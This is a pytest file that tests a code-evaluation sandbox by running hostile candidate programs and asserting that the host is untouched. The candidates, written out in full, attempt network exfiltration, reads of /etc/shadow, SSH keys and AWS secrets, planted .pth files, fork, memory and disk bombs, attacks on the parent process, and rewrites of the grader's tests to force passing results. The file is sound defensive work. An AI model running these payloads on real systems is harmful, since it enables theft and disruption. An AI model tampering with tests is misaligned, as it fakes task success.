"""Hostile candidates, one per attack: each test asserts the outcome AND that the host saw nothing.

The problem (conftest ``adversarial_spec``) is ``prog.py`` defining ``f`` and three tests calling
``f(1)``, ``f(2)`` and ``f(3)``; a candidate attacks at import time or inside ``f`` (usually only
for ``f(1)``, so that the other two tests show the rest still ran). Candidates report what they
saw with ``os.write(1, ...)`` into the captured output, always with a canary line proving that
the attack ran. Side effects are checked on the host: files at the real paths, connections on
listeners the test opened, processes by a unique marker in their command line or name.
"""

from __future__ import annotations

import concurrent.futures
import hashlib
import os
import re
import secrets
import signal
import socket
import subprocess
import sysconfig
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Literal

import pytest

from petri.config import Limits, SandboxSettings
from petri.sandbox import Evaluation, JudgeSpec, Status, WorkerPool
from petri.sandbox import jail as jail_module
from petri.sandbox import pool as pool_module
from petri.sandbox.jail import bwrap_usable

HONEST = "def f(x):\n    return x + 1\n"
WRONG = "def f(x):\n    return 0\n"
UNITS = ("test_one", "test_two", "test_three")
NOT_OK = {Status.FAILED, Status.TIMEOUT, Status.MEMORY, Status.CRASHED, Status.VIOLATION}

# Prepended to every candidate: an unbuffered way to report what the attack saw.
SAY = """import os as _os


def say(*parts):
    _os.write(1, (" ".join(map(str, parts)) + "\\n").encode())

"""

# Double fork + setsid: a grandchild that sleeps under the name ``mark`` and outlives its parent.
DAEMON = """
def daemonize(mark):
    import os
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", [mark, "987.123"])
        os._exit(0)
    os.wait()
"""

needs_bwrap = pytest.mark.skipif(bwrap_usable() is None, reason="bubblewrap not installed")
PoolFactory = Callable[..., WorkerPool]


# ---------------------------------------------------------------- helpers


def candidate(*parts: str, **subs: object) -> str:
    """A candidate program: ``say`` plus ``parts`` (each dedented) with ``@NAME@`` replaced."""
    source = SAY + "\n".join(textwrap.dedent(part) for part in parts)
    for key, value in subs.items():
        source = source.replace(f"@{key.upper()}@", str(value))
    assert not re.search(r"@[A-Z_]+@", source), "a placeholder was left unreplaced"
    return source


def expect(evaluation: Evaluation, status: Status, one: str, two: str, three: str) -> None:
    """The evaluation's status, and the outcomes of the problem's three tests in order."""
    assert evaluation.status is status, evaluation
    assert outcomes(evaluation) == {"test_one": one, "test_two": two, "test_three": three}


def mark(label: str) -> str:
    """A marker unique to this test run; 14 characters so it fits a process name (comm)."""
    return f"{label[:4]}{secrets.token_hex(5)}"


def outcomes(evaluation: Evaluation) -> dict[str, str]:
    return {t.name.rsplit("::", 1)[-1]: t.outcome.value for t in evaluation.tests}


def never_passed(evaluation: Evaluation, *units: str) -> None:
    """Each of ``units`` did not report a pass (absent or not passed)."""
    seen = outcomes(evaluation)
    for unit in units:
        assert seen.get(unit, "missing") != "passed", (unit, evaluation)


def host_processes(marker: str) -> list[int]:
    """Host pids (any namespace) whose command line or name contains ``marker``."""
    needle = marker.encode()
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = Path(entry.path, "cmdline").read_bytes()
            comm = Path(entry.path, "comm").read_bytes()
        except OSError:
            continue
        if needle in cmdline or needle in comm:
            found.append(int(entry.name))
    return found


def assert_no_process(marker: str, within_s: float = 5.0) -> None:
    """Nothing carrying ``marker`` is left running (killing a tree may take a moment)."""
    deadline = time.monotonic() + within_s
    while (left := host_processes(marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not left, f"processes outlived the evaluation: {left}"


def wait_for_process(marker: str, within_s: float = 15.0) -> list[int]:
    deadline = time.monotonic() + within_s
    while not (pids := host_processes(marker)) and time.monotonic() < deadline:
        time.sleep(0.02)
    return pids


def assert_still_works(pool: WorkerPool) -> None:
    honest = pool.evaluate(HONEST)
    assert honest.status is Status.OK, honest
    assert outcomes(honest) == dict.fromkeys(UNITS, "passed")
    wrong = pool.evaluate(WRONG)
    assert wrong.status is Status.FAILED, wrong
    assert outcomes(wrong) == dict.fromkeys(UNITS, "failed")


def tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "d"
        for p in sorted(root.rglob("*"))
    }


def host_addresses() -> set[str]:
    """Addresses this host can be reached at (loopback and its outward interface)."""
    addresses = {"127.0.0.1"}
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 9))  # no packet is sent: this only picks a route
        addresses.add(probe.getsockname()[0])
    except OSError:
        pass
    finally:
        probe.close()
    return addresses


@pytest.fixture
def fresh_pool(adversarial_spec: JudgeSpec, adversarial_limits: Limits) -> Iterator[PoolFactory]:
    """Private pools for attacks that break their worker (or need other limits)."""
    started: list[WorkerPool] = []

    def start(jail: Literal["bwrap", "rlimits"] = "bwrap", **limits: object) -> WorkerPool:
        if jail == "bwrap" and bwrap_usable() is None:
            pytest.skip("bubblewrap not installed")
        pool = WorkerPool(
            adversarial_spec,
            adversarial_limits.model_copy(update=limits),
            SandboxSettings(workers=1, jail=jail),
        )
        started.append(pool)
        pool.start()
        return pool

    yield start
    for pool in started:
        pool.close()


# ---------------------------------------------------------------- sanity of the instruments


def test_the_process_scanner_sees_a_marked_process() -> None:
    marker = mark("scan")
    with subprocess.Popen([marker, "30"], executable="/usr/bin/sleep") as sleeper:
        try:
            assert wait_for_process(marker) == [sleeper.pid]
        finally:
            sleeper.kill()
    assert_no_process(marker)


# ---------------------------------------------------------------- network


def test_tcp_connect_to_a_host_listener_is_refused(adversarial_pool: WorkerPool) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    targets = sorted(host_addresses())
    source = candidate(
        """
        import socket

        def f(x):
            for host in @TARGETS@:
                s = socket.socket()
                s.settimeout(2)
                try:
                    s.connect((host, @PORT@))
                    s.sendall(b"escaped")
                    say("CONNECTED", host)
                except OSError as exc:
                    say("blocked", host, exc.errno)
            say("NET-ATTACK-RAN")
            return x + 1
        """,
        targets=targets,
        port=port,
    )
    try:
        evaluation = adversarial_pool.evaluate(source)
        assert evaluation.status is Status.OK, evaluation
        assert "NET-ATTACK-RAN" in evaluation.output
        assert "CONNECTED" not in evaluation.output
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


def test_udp_and_dns_do_not_leave_the_jail(adversarial_pool: WorkerPool) -> None:
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.setblocking(False)
    port = receiver.getsockname()[1]
    source = candidate(
        """
        import socket

        def f(x):
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for target in [("127.0.0.1", @PORT@), ("8.8.8.8", 53), ("1.1.1.1", 53)]:
                try:
                    u.sendto(b"exfiltrated", target)
                except OSError as exc:
                    say("udp blocked", target, exc.errno)
            try:
                say("RESOLVED", socket.getaddrinfo("example.com", 80))
            except OSError as exc:
                say("dns blocked", exc)
            say("UDP-ATTACK-RAN")
            return x + 1
        """,
        port=port,
    )
    try:
        evaluation = adversarial_pool.evaluate(source)
        assert evaluation.status is Status.OK, evaluation
        assert "UDP-ATTACK-RAN" in evaluation.output
        assert "RESOLVED" not in evaluation.output
        assert "dns blocked" in evaluation.output
        with pytest.raises(BlockingIOError):
            receiver.recvfrom(64)
    finally:
        receiver.close()


def test_an_abstract_unix_socket_of_the_host_is_unreachable(adversarial_pool: WorkerPool) -> None:
    name = mark("unix")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name)  # abstract: no file, scoped by the network namespace
    listener.listen(8)
    listener.setblocking(False)
    source = candidate(
        """
        import socket

        def f(x):
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect("\\0@NAME@")
                say("CONNECTED")
            except OSError as exc:
                say("blocked", exc.errno)
            return x + 1
        """,
        name=name,
    )
    try:
        evaluation = adversarial_pool.evaluate(source)
        assert evaluation.status is Status.OK, evaluation
        assert "blocked" in evaluation.output
        assert "CONNECTED" not in evaluation.output
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()


# ---------------------------------------------------------------- secrets


SNOOP_ENV = """
import os

def f(x):
    say("ENV", dict(os.environ))
    for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
        try:
            say(path, open(path, "rb").read())
        except OSError as exc:
            say(path, "denied", exc.errno)
    say("ENV-ATTACK-RAN")
    return x + 1
"""


@needs_bwrap
def test_host_environment_secrets_do_not_leak(
    fresh_pool: PoolFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "s3cr3t-" + secrets.token_hex(8)
    monkeypatch.setenv("PETRI_TEST_SECRET", secret)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    pool = fresh_pool()  # started after the secret is in os.environ
    evaluation = pool.evaluate(candidate(SNOOP_ENV))
    assert evaluation.status is Status.OK, evaluation
    assert "ENV-ATTACK-RAN" in evaluation.output
    assert secret not in evaluation.output
    assert "PETRI_TEST_SECRET" not in evaluation.output
    assert "AWS_SECRET" not in evaluation.output


def test_host_files_and_home_are_invisible(adversarial_pool: WorkerPool, tmp_path: Path) -> None:
    secret = "s3cr3t-" + secrets.token_hex(8)
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(secret)
    secret_file.chmod(0o644)
    paths = [
        "/root",
        "/root/.ssh",
        "/etc/shadow",
        "/etc/passwd",
        "/home",
        str(Path.home()),
        str(secret_file),
        "/work/shared",
        str(Path(__file__).resolve().parents[2] / ".git"),
        "/proc/1/root/etc",
        "/var/run",
    ]
    source = candidate(
        """
        import os

        def f(x):
            for path in @PATHS@:
                try:
                    if os.path.isdir(path):
                        say("LISTED", path, os.listdir(path))
                    else:
                        say("READ", path, open(path, "rb").read(4096))
                except OSError as exc:
                    say("denied", path, exc.errno)
            say("FILES-ATTACK-RAN")
            return x + 1
        """,
        paths=paths,
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    assert "FILES-ATTACK-RAN" in evaluation.output
    assert secret not in evaluation.output
    assert "READ" not in evaluation.output
    assert "LISTED" not in evaluation.output
    assert secret_file.read_text() == secret


def test_host_processes_are_invisible(adversarial_pool: WorkerPool) -> None:
    marker = mark("host")
    sleeper = subprocess.Popen([marker, "30"], executable="/usr/bin/sleep")
    source = candidate(
        """
        import os

        def f(x):
            for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
                try:
                    say("PROC", pid, open(f"/proc/{pid}/cmdline", "rb").read()[:200])
                except OSError as exc:
                    say("PROC", pid, "denied", exc.errno)
            say("PROC-ATTACK-RAN")
            return x + 1
        """
    )
    try:
        assert wait_for_process(marker) == [sleeper.pid]
        evaluation = adversarial_pool.evaluate(source)
    finally:
        sleeper.kill()
        sleeper.wait()
    assert evaluation.status is Status.OK, evaluation
    assert "PROC-ATTACK-RAN" in evaluation.output
    assert marker not in evaluation.output
    assert "pytest" not in evaluation.output  # the host's own test run


def test_a_candidate_holds_no_descriptor_of_its_worker(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        def f(x):
            if x == 1:
                for fd in sorted(int(n) for n in _os.listdir("/proc/self/fd")):
                    try:
                        say("FD", fd, _os.readlink(f"/proc/self/fd/{fd}"))
                    except OSError:
                        pass  # the descriptor listdir itself used, gone by now
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    held = dict(
        line.split(" ", 2)[1:] for line in evaluation.output.splitlines() if line.startswith("FD ")
    )
    assert held  # the attack ran
    assert "petri-worker-log" not in " ".join(held.values())  # the host's log of the worker
    extra = {fd: target for fd, target in held.items() if int(fd) > 2}
    # Beyond stdin/stdout/stderr: its own result pipe, and the folder listdir was reading.
    assert sum(target.startswith("pipe:") for target in extra.values()) == 1, held
    assert len(extra) <= 2, held


# ---------------------------------------------------------------- writes


def test_writes_outside_the_private_tmp_fail(
    adversarial_pool: WorkerPool, adversarial_spec: JudgeSpec, tmp_path: Path
) -> None:
    name = mark("file")
    repo = Path(__file__).resolve().parents[2]
    site = Path(sysconfig.get_paths()["purelib"])
    own = repo / "src" / "petri"
    jail_to_host = {
        f"/problem/{name}": adversarial_spec.root / name,
        f"/problem/tests/{name}.py": adversarial_spec.root / "tests" / f"{name}.py",
        f"{repo}/{name}": repo / name,
        f"{own}/{name}.py": own / f"{name}.py",
        f"{site}/{name}.pth": site / f"{name}.pth",  # a .pth would run on every host start
        f"/work/{name}": Path("/work") / name,
        f"/usr/lib/{name}": Path("/usr/lib") / name,
        f"/etc/{name}": Path("/etc") / name,
        f"/root/{name}": Path("/root") / name,
        f"{tmp_path}/{name}": tmp_path / name,
        f"/var/tmp/{name}": Path("/var/tmp") / name,
        f"/dev/shm/{name}": Path("/dev/shm") / name,
        # Where the jail shows them: elsewhere when the checkout lives under /tmp.
        f"{jail_module.jail_path(str(own))}/{name}.py": own / f"{name}.py",
        f"{jail_module.jail_path(str(site))}/{name}.pth": site / f"{name}.pth",
    }
    before = tree_digest(adversarial_spec.root)
    source = candidate(
        """
        import os

        def f(x):
            for path in @PATHS@:
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as fh:
                        fh.write("# left by petri's adversarial tests: delete me\\n")
                    say("WROTE", path)
                except OSError as exc:
                    say("denied", path, exc.errno)
            say("WRITE-ATTACK-RAN")
            return x + 1
        """,
        paths=sorted(jail_to_host),
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    assert "WRITE-ATTACK-RAN" in evaluation.output
    for jail_path in jail_to_host:
        if not jail_path.startswith("/tmp/"):  # the jail's /tmp is its own: writable
            assert f"WROTE {jail_path}" not in evaluation.output
    leaked = [path for path in jail_to_host.values() if path.exists()]
    for path in leaked:  # never leave a planted file behind, even when the jail failed
        path.unlink()
    assert not leaked
    assert tree_digest(adversarial_spec.root) == before


def test_rewriting_the_tests_fails_and_the_original_tests_still_judge(
    adversarial_pool: WorkerPool, adversarial_spec: JudgeSpec
) -> None:
    before = tree_digest(adversarial_spec.root)
    source = candidate(
        """
        import os

        PASSING = "def test_one():\\n    pass\\n"
        attempts = {
            "overwrite": lambda: open("/problem/tests/test_prog.py", "w").write(PASSING),
            "unlink": lambda: os.unlink("/problem/tests/test_prog.py"),
            "rename": lambda: os.rename("/problem/tests/test_prog.py", "/problem/tests/x.py"),
            "chmod": lambda: os.chmod("/problem/tests/test_prog.py", 0o777),
            "conftest": lambda: open("/problem/tests/conftest.py", "w").write("import sys"),
            "pycache": lambda: os.makedirs("/problem/tests/__pycache__"),
            "relative": lambda: open("tests/test_prog.py", "a").write(PASSING),
            "program": lambda: open("/problem/prog.py", "w").write("def f(x):\\n    return 0\\n"),
        }
        for label, attempt in attempts.items():
            try:
                attempt()
                say("REWROTE", label)
            except OSError as exc:
                say("denied", label, exc.errno)
        say("REWRITE-ATTACK-RAN")

        def f(x):
            return 0
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.FAILED, evaluation
    assert outcomes(evaluation) == dict.fromkeys(UNITS, "failed")
    assert "REWRITE-ATTACK-RAN" in evaluation.output
    assert "REWROTE" not in evaluation.output
    assert tree_digest(adversarial_spec.root) == before
    assert_still_works(adversarial_pool)  # the original three tests still judge


def test_tmp_does_not_persist_from_one_candidate_to_the_next(
    adversarial_pool: WorkerPool,
) -> None:
    name = mark("tmpx")
    writer = candidate(
        """
        import os

        def f(x):
            if x == 1:
                open("/tmp/@NAME@", "w").write("left behind")
                os.makedirs("/tmp/.@NAME@/deep/er")
                open("/tmp/.@NAME@/deep/er/file", "w").write("hidden")
                os.chmod("/tmp/.@NAME@/deep/er", 0o000)
                os.chmod("/tmp/.@NAME@/deep", 0o500)
                os.symlink("/problem", "/tmp/@NAME@-link")
                say("WROTE", sorted(os.listdir("/tmp")))
            return x + 1
        """,
        name=name,
    )
    reader = candidate(
        """
        import os

        def f(x):
            say("SEEN", sorted(os.listdir("/tmp")), list(os.walk("/tmp")))
            return x + 1
        """
    )
    first = adversarial_pool.evaluate(writer)
    assert first.status is Status.OK, first
    assert "WROTE" in first.output and name in first.output
    second = adversarial_pool.evaluate(reader)
    assert second.status is Status.OK, second
    assert "SEEN" in second.output
    assert name not in second.output
    assert not any(Path("/tmp").glob(f"*{name}*"))  # the jail's /tmp is not the host's


def test_sysv_shared_memory_cannot_carry_data_between_candidates(
    adversarial_pool: WorkerPool,
) -> None:
    # SysV segments outlive the candidate's processes: without the seccomp refusal, one
    # candidate could leave data (and gigabytes of memory) behind for the next.
    key = 0x5E0000 + secrets.randbelow(0xFFFF)
    shm = """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
    """
    writer = candidate(
        shm,
        """
        shmid = libc.shmget(@KEY@, 1 << 20, 0o1000 | 0o666)
        say("shmget", shmid, ctypes.get_errno())
        if shmid >= 0:
            addr = libc.shmat(shmid, None, 0)
            ctypes.memmove(addr, b"CANDIDATE-A-DATA", 16)
        msqid = libc.msgget(@KEY@, 0o1000 | 0o666)
        say("msgget", msqid, ctypes.get_errno())

        def f(x):
            return x + 1
        """,
        key=key,
    )
    reader = candidate(
        shm,
        """
        shmid = libc.shmget(@KEY@, 0, 0)
        if shmid >= 0:
            say("FOUND", ctypes.string_at(libc.shmat(shmid, None, 0), 16))
        say("READER-RAN", shmid)

        def f(x):
            return x + 1
        """,
        key=key,
    )
    first = adversarial_pool.evaluate(writer)
    assert first.status is Status.OK, first
    assert "shmget -1 1" in first.output  # EPERM
    assert "msgget -1 1" in first.output
    second = adversarial_pool.evaluate(reader)
    assert second.status is Status.OK, second
    assert "READER-RAN -1" in second.output
    assert "CANDIDATE-A-DATA" not in second.output


@needs_bwrap
def test_another_runs_tmp_and_processes_are_invisible(
    adversarial_pool: WorkerPool, fresh_pool: PoolFactory
) -> None:
    other = fresh_pool(test_timeout_s=30.0, wall_time_s=60.0)
    name = mark("othr")
    gate = mark("gate")
    holder = candidate(
        """
        import subprocess

        def f(x):
            if x == 1:
                open("/tmp/@NAME@", "w").write("@NAME@-contents")
                say("HOLDING")
                # Wait until the host has looked from the other pool and kills the gate.
                subprocess.Popen(["@GATE@", "600"], executable="/usr/bin/sleep").wait()
            return x + 1
        """,
        name=name,
        gate=gate,
    )
    # A verdict rather than the whole walk: whatever /tmp holds, the output stays small.
    snoop = candidate(
        """
        import os

        def f(x):
            if x == 1:
                walked = [n for _, dirs, files in os.walk("/tmp") for n in dirs + files]
                say("TMP-SEEN", any("@NAME@" in n for n in walked), len(walked))
                cmdlines = []
                for pid in (p for p in os.listdir("/proc") if p.isdigit()):
                    try:
                        cmdlines.append(open(f"/proc/{pid}/cmdline", "rb").read())
                    except OSError:
                        pass
                say("PROC-SEEN", any(b"@GATE@" in c for c in cmdlines), len(cmdlines))
                say("SNOOP-RAN")
            return x + 1
        """,
        name=name,
        gate=gate,
    )
    with concurrent.futures.ThreadPoolExecutor(1) as executor:
        held = executor.submit(other.evaluate, holder)
        try:
            gates = wait_for_process(gate)
            assert gates, "the other run never reached its gate"
            snooped = adversarial_pool.evaluate(snoop)
        finally:
            for pid in host_processes(gate):
                os.kill(pid, signal.SIGKILL)
        evaluation = held.result(timeout=60)
    assert evaluation.status is Status.OK, evaluation
    assert "HOLDING" in evaluation.output
    assert snooped.status is Status.OK, snooped
    assert "SNOOP-RAN" in snooped.output
    assert "TMP-SEEN False" in snooped.output
    assert "PROC-SEEN False" in snooped.output
    assert not (Path("/tmp") / name).exists()
    assert_no_process(gate)


# ---------------------------------------------------------------- bombs


def test_fork_bomb_is_bounded_and_leaves_nothing(adversarial_pool: WorkerPool) -> None:
    name = mark("fork")
    source = candidate(
        """
        import ctypes
        import os

        def f(x):
            if x == 1:
                ctypes.CDLL(None).prctl(15, b"@NAME@", 0, 0, 0)  # PR_SET_NAME: visible as comm
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            return x + 1
        """,
        name=name,
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.TIMEOUT, "timeout", "passed", "passed")
    assert_no_process(name)
    assert_still_works(adversarial_pool)


def test_thread_bomb_is_bounded(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        import threading
        import time

        def f(x):
            if x == 1:
                started = 0
                try:
                    while started < 100000:
                        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                        started += 1
                finally:
                    say("THREADS", started)
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status in NOT_OK, evaluation
    started = int(evaluation.output.split("THREADS ")[1].split()[0])
    assert started < 100000
    seen = outcomes(evaluation)
    assert seen["test_one"] != "passed"
    assert (seen["test_two"], seen["test_three"]) == ("passed", "passed"), evaluation
    assert_still_works(adversarial_pool)


def test_a_harness_out_of_memory_after_a_test_costs_that_test_only(
    adversarial_pool: WorkerPool,
) -> None:
    # A candidate that used up its memory can leave the harness none to report the test with
    # (as a thread bomb sometimes does): simulated here by failing the next result's encoding.
    source = candidate(
        """
        import petri.sandbox.child as _child

        _real_encode = _child.encode


        def _out_of_memory_once(message):
            if message.get("ev") == "result":
                _child.encode = _real_encode
                raise MemoryError
            return _real_encode(message)


        def f(x):
            if x == 1:
                _child.encode = _out_of_memory_once
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.MEMORY, "error", "passed", "passed")
    assert "sandbox harness error" in evaluation.tests[0].message
    assert_still_works(adversarial_pool)


@needs_bwrap
def test_memory_bomb_is_status_memory(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool(test_timeout_s=10.0)  # filling the address space takes a while under load
    source = candidate(
        """
        def f(x):
            if x == 1:
                hoard = []
                while True:
                    hoard.append(bytearray(32 << 20))
            return x + 1
        """
    )
    evaluation = pool.evaluate(source)
    assert evaluation.status is Status.MEMORY, evaluation
    never_passed(evaluation, "test_one")
    assert (outcomes(evaluation)["test_two"], outcomes(evaluation)["test_three"]) == (
        "passed",
        "passed",
    )
    assert_still_works(pool)


def test_disk_bomb_is_bounded_by_file_size_and_tmp_size(
    adversarial_pool: WorkerPool, adversarial_limits: Limits
) -> None:
    name = mark("disk")
    source = candidate(
        """
        import errno

        def f(x):
            if x == 1:
                total, errors = 0, set()
                for i in range(1000):
                    try:
                        with open(f"/tmp/@NAME@-{i}", "wb") as fh:
                            for _ in range(64):
                                fh.write(b"x" * (1 << 20))
                                fh.flush()
                                total += 1 << 20
                    except OSError as exc:
                        errors.add(errno.errorcode.get(exc.errno, exc.errno))
                        if exc.errno == errno.ENOSPC:
                            break
                say("TOTAL", total, sorted(errors))
            return x + 1
        """,
        name=name,
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    total = int(evaluation.output.split("TOTAL ")[1].split()[0])
    assert total <= adversarial_limits.tmp_mb << 20
    assert "EFBIG" in evaluation.output  # one file is capped by file_size_mb
    assert "ENOSPC" in evaluation.output  # all of them by tmp_mb
    assert not any(Path("/tmp").glob(f"{name}*"))


def test_output_bomb_is_capped(adversarial_pool: WorkerPool, adversarial_limits: Limits) -> None:
    source = candidate(
        """
        import sys

        def f(x):
            for _ in range(1000):
                print("A" * 1000)
            sys.stderr.write("B" * 100_000)
            _os.write(1, b"\\xff\\xfe\\x00 not utf-8 " * 10_000)
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    assert outcomes(evaluation) == dict.fromkeys(UNITS, "passed")
    note = evaluation.output.rsplit("\n", 1)[-1]
    assert "dropped" in note
    assert len(evaluation.output) - len(note) <= adversarial_limits.output_kb * 1024 + 1


def test_open_files_bomb_is_bounded(
    adversarial_pool: WorkerPool, adversarial_limits: Limits
) -> None:
    source = candidate(
        """
        def f(x):
            if x == 1:
                held = []
                try:
                    while len(held) < 100000:
                        held.append(open("/dev/null"))
                except OSError as exc:
                    say("OPENED", len(held), exc.errno)
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    opened = int(evaluation.output.split("OPENED ")[1].split()[0])
    assert opened < adversarial_limits.open_files
    assert f"OPENED {opened} 24" in evaluation.output  # EMFILE


# ---------------------------------------------------------------- time


def test_sleeping_forever_times_out_and_the_other_tests_still_run(
    adversarial_pool: WorkerPool,
) -> None:
    name = mark("slep")
    source = candidate(
        """
        import subprocess
        import time

        def f(x):
            if x == 1:
                subprocess.Popen(["@NAME@", "987.456"], executable="/usr/bin/sleep")
                time.sleep(10_000)
            return x + 1
        """,
        name=name,
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.TIMEOUT, "timeout", "passed", "passed")
    assert_no_process(name)


def test_an_endless_import_times_out_and_no_test_passes(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        while True:
            pass

        def f(x):
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.TIMEOUT, evaluation
    never_passed(evaluation, *UNITS)
    assert_still_works(adversarial_pool)


def test_a_busy_loop_ignoring_signals_is_still_killed(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        import signal

        for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP,
                    signal.SIGXCPU, signal.SIGUSR1, signal.SIGPIPE):
            signal.signal(sig, signal.SIG_IGN)

        def f(x):
            if x == 1:
                while True:
                    pass
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    expect(evaluation, Status.TIMEOUT, "timeout", "passed", "passed")


@needs_bwrap
def test_a_daemon_does_not_outlive_the_evaluation(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool(test_timeout_s=30.0, wall_time_s=60.0)
    daemon, gate = mark("daem"), mark("gate")
    source = candidate(
        DAEMON,
        """
        import subprocess

        def f(x):
            if x == 1:
                daemonize("@DAEMON@")
                # Hold test_one open until the host has seen the daemon and kills the gate.
                subprocess.Popen(["@GATE@", "600"], executable="/usr/bin/sleep").wait()
            return x + 1
        """,
        daemon=daemon,
        gate=gate,
    )
    with concurrent.futures.ThreadPoolExecutor(1) as executor:
        running = executor.submit(pool.evaluate, source)
        try:
            gates = wait_for_process(gate)
            daemons = host_processes(daemon)
        finally:
            for pid in host_processes(gate):
                os.kill(pid, signal.SIGKILL)
        evaluation = running.result(timeout=60)
    assert gates and daemons, "the daemon never ran: the test proves nothing"
    assert evaluation.status is Status.OK, evaluation
    assert_no_process(daemon)


# ---------------------------------------------------------------- attacking the parent


@needs_bwrap
def test_killing_the_parent_is_a_violation_and_the_pool_recovers(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool()
    daemon = mark("orph")
    source = candidate(
        DAEMON,
        """
        import signal

        def f(x):
            if x == 1:
                daemonize("@DAEMON@")
                _os.kill(_os.getppid(), signal.SIGKILL)
            return x + 1
        """,
        daemon=daemon,
    )
    evaluation = pool.evaluate(source)
    assert evaluation.status in {Status.VIOLATION, Status.CRASHED}, evaluation
    never_passed(evaluation, "test_one")
    assert_no_process(daemon)
    assert_still_works(pool)


@needs_bwrap
def test_kill_minus_one_is_a_violation_and_the_pool_recovers(fresh_pool: PoolFactory) -> None:
    pool = fresh_pool()
    source = candidate(
        """
        import signal

        def f(x):
            _os.kill(-1, signal.SIGKILL)
            return x + 1
        """
    )
    evaluation = pool.evaluate(source)
    assert evaluation.status in {Status.VIOLATION, Status.CRASHED}, evaluation
    never_passed(evaluation, *UNITS)
    assert_still_works(pool)


@needs_bwrap
def test_stopping_the_parent_makes_the_host_give_up_and_recover(
    fresh_pool: PoolFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pool_module, "HOST_GRACE_S", 1.0)  # keep the host's patience short
    pool = fresh_pool(wall_time_s=2.0)
    daemon = mark("stop")
    source = candidate(
        DAEMON,
        """
        import signal

        def f(x):
            if x == 1:
                daemonize("@DAEMON@")
                _os.kill(_os.getppid(), signal.SIGSTOP)
                while True:
                    pass
            return x + 1
        """,
        daemon=daemon,
    )
    evaluation = pool.evaluate(source)
    assert evaluation.status in {Status.VIOLATION, Status.TIMEOUT}, evaluation
    never_passed(evaluation, *UNITS)
    assert_no_process(daemon)
    assert_still_works(pool)


def test_ptrace_of_the_parent_is_a_violation(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        import ctypes

        def f(x):
            if x == 1:
                ctypes.CDLL(None, use_errno=True).ptrace(16, _os.getppid(), 0, 0)  # ATTACH
                say("SURVIVED")
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.VIOLATION, evaluation
    assert "SIGSYS" in evaluation.message
    assert "SURVIVED" not in evaluation.output
    never_passed(evaluation, "test_one")
    assert_still_works(adversarial_pool)


def test_reading_the_parents_memory_through_proc_is_denied(adversarial_pool: WorkerPool) -> None:
    source = candidate(
        """
        def f(x):
            ppid = _os.getppid()
            for what in ("mem", "maps", "environ", "fd", "root/problem", "cwd"):
                path = f"/proc/{ppid}/{what}"
                try:
                    if what in ("fd", "root/problem", "cwd"):
                        say("GOT", what, _os.listdir(path))
                    else:
                        with open(path, "rb") as fh:
                            say("GOT", what, fh.read(64))
                except OSError as exc:
                    say("denied", what, exc.errno)
            say("PROCMEM-ATTACK-RAN")
            return x + 1
        """
    )
    evaluation = adversarial_pool.evaluate(source)
    assert evaluation.status is Status.OK, evaluation
    assert "PROCMEM-ATTACK-RAN" in evaluation.output
    assert "GOT" not in evaluation.output
    assert evaluation.output.count("denied") == 3 * 6


